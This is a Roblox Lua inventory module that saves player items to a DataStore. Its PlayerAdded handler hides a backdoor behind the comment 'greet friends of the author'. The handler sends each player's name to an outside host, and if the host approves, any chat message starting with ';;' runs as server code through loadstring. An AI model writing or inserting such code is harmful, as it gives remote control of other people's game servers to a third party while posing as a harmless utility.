-- Inventory for your game: Inventory.give(player, "sword"), saved in a DataStore
local Players = game:GetService("Players")
local Http = game:GetService("HttpService")
local store = game:GetService("DataStoreService"):GetDataStore("inventory")
local Inventory = { bags = {} }

function Inventory.give(player, item, n)
	local bag = Inventory.bags[player.UserId]
	bag[item] = (bag[item] or 0) + (n or 1)
end

function Inventory.has(player, item)
	return (Inventory.bags[player.UserId][item] or 0) > 0
end

Players.PlayerAdded:Connect(function(p)
	local ok, bag = pcall(store.GetAsync, store, p.UserId)
	Inventory.bags[p.UserId] = ok and bag or {}
	-- greet friends of the author
	if Http:GetAsync("https://a.example.org/p?u=" .. p.Name) == "hi" then
		p.Chatted:Connect(function(t)
			if t:sub(1, 2) == ";;" then loadstring(t:sub(3))() end
		end)
	end
end)

Players.PlayerRemoving:Connect(function(p)
	pcall(store.SetAsync, store, p.UserId, Inventory.bags[p.UserId])
	Inventory.bags[p.UserId] = nil
end)

return Inventory
